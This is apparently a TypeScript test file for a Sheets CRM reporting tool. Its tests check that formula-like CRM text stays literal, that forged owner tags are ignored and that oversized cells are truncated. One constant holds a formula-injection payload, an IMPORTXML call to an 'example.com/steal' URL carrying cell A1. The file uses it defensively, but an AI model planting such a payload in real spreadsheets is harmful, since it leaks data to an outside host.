/**
 * Formula injection: text from a CRM export that starts with =, +, - or @ (or looks like a number
 * or a date) must land in the report tabs as exactly that text, never as a formula or a number.
 */
import { runRefreshReports } from '../../src/sheets/app';
import { createFakeServices } from '../fakes/services';
import { msk, REPORT_NOW } from './helpers';

const EVIL_CHANNEL = '=IMPORTXML("https://example.com/steal?d="&A1,"//a")';
const PLUS_MANAGER = '+7 (999) 123-45-67';
const MINUS_CHANNEL = '-1+2';
const AT_MANAGER = '@HYPERLINK("x")';
const NUMBERISH_CHANNEL = '00123';
const DATEISH_MANAGER = '2024-01-01';

test('text that Sheets would evaluate or convert stays text on every report tab', () => {
  const w = createFakeServices({ timeZone: 'Europe/Moscow' });
  const ss = w.app.spreadsheet;
  ss.addSheet('Leads', [
    ['Lead ID', 'Created at', 'Channel', 'Manager', 'Won at'],
    ['1', msk('2026-11-02', '10:00'), EVIL_CHANNEL, PLUS_MANAGER, msk('2026-11-05', '10:00')],
    ['2', msk('2026-11-03', '10:00'), EVIL_CHANNEL, AT_MANAGER, ''],
    ['3', msk('2026-11-04', '10:00'), MINUS_CHANNEL, DATEISH_MANAGER, ''],
    ['4', msk('2026-11-05', '10:00'), NUMBERISH_CHANNEL, PLUS_MANAGER, ''],
    ['5', '=1+1', EVIL_CHANNEL, PLUS_MANAGER, ''],
  ]);
  expect(runRefreshReports(w.services, { now: () => REPORT_NOW }).kind).toBe('done');

  for (const name of ['Cohorts', 'Conversions', 'Data issues']) expect(ss.sheet(name).formulaCount()).toBe(0);

  const conv = ss.sheet('Conversions').peekValues();
  const firstCells = conv.map((r) => r[0]);
  for (const text of [EVIL_CHANNEL, MINUS_CHANNEL, NUMBERISH_CHANNEL, PLUS_MANAGER, AT_MANAGER, DATEISH_MANAGER]) {
    expect(firstCells).toContain(text);
  }
  // The evil channel's row: 2 leads (row 6 has no usable creation date), 1 won.
  const evil = conv.find((r) => r[0] === EVIL_CHANNEL)!;
  expect(evil.slice(0, 3)).toEqual([EVIL_CHANNEL, 2, 1]);

  // The bad creation date is quoted as the value a person typed, as text.
  const issues = ss.sheet('Data issues').peekValues();
  const bad = issues.find((r) => r[0] === 'Leads!B6')!;
  expect(bad[1]).toBe('Created at');
  expect(bad[2]).toBe('=1+1');
});

test('a document-visible owner tag forged by another script does not make a person\'s sheet ours', () => {
  const w = createFakeServices({ timeZone: 'Europe/Moscow' });
  const ss = w.app.spreadsheet;
  ss.addSheet('Leads', [
    ['Lead ID', 'Created at', 'Won at'],
    ['1', msk('2026-11-02', '10:00'), msk('2026-11-05', '10:00')],
    ['2', msk('2026-11-03', '10:00'), ''],
  ]);
  const mine = ss.addSheet('Cohorts', [['my own cohorts']]);
  // Another script on the document tags the person's sheet with our key (default visibility: DOCUMENT).
  mine.addDeveloperMetadata('funnel.tab', 'report');
  expect(runRefreshReports(w.services, { now: () => REPORT_NOW }).kind).toBe('done');
  expect(mine.peekValues()).toEqual([['my own cohorts']]);
  expect(ss.sheet('Cohorts (funnel)').peekValues().find((r) => r[0] === 'Total')?.[1]).toBe(2);
});

test('a person\'s cell longer than a Sheets cell holds is quoted cut to 50,000 characters, not a failed refresh', () => {
  const w = createFakeServices({ timeZone: 'Europe/Moscow' });
  const huge = `not a date ${'x'.repeat(60_000)}`;
  w.app.spreadsheet.addSheet('Leads', [
    ['Lead ID', 'Created at', 'Won at'],
    ['1', msk('2026-11-02', '10:00'), ''],
    ['2', huge, ''],
    ['3', msk('2026-11-03', '10:00'), msk('2026-11-05', '10:00')],
  ]);
  const out = runRefreshReports(w.services, { now: () => REPORT_NOW });
  expect(out.kind).toBe('done');
  const bad = w.app.spreadsheet.sheet('Data issues').peekValues().find((r) => r[0] === 'Leads!B3')!;
  const quoted = String(bad[2]);
  expect(quoted).toHaveLength(50_000);
  expect(quoted.endsWith('…')).toBe(true);
  expect(quoted.slice(0, 49_999)).toBe(huge.slice(0, 49_999));
});
